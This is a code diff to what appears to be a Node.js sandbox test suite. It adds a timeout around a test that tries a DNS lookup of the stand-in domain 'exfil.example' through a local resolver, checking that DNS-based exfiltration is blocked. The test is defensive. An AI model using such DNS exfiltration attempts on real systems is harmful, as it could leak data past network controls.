@@ -5,6 +5,7 @@ import dns from 'node:dns';
 import http2 from 'node:http2';
 import net from 'node:net';
 import tls from 'node:tls';
+import { withTimeout } from '../kit/child-lib.mjs';
 
 /** Settles when the socket connects and has written `bytes` (the attack succeeded) or fails. */
 function connected(socket, bytes = 'hello') {
@@ -250,10 +251,15 @@ const udp = [
       const before = dns.getServers();
       dns.setServers([`127.0.0.1:${c.T.udp}`]);
       try {
-        return await new Promise((resolve, reject) =>
-          dns.resolve4('exfil.example', (err, a) =>
-            err ? reject(err) : resolve({ status: 0, body: String(a) }),
+        // The global resolver retries for many seconds: give up early (still a failure if sent).
+        return await withTimeout(
+          new Promise((resolve, reject) =>
+            dns.resolve4('exfil.example', (err, a) =>
+              err ? reject(err) : resolve({ status: 0, body: String(a) }),
+            ),
           ),
+          1_500,
+          'dns.resolve4',
         );
       } finally {
         dns.setServers(before);
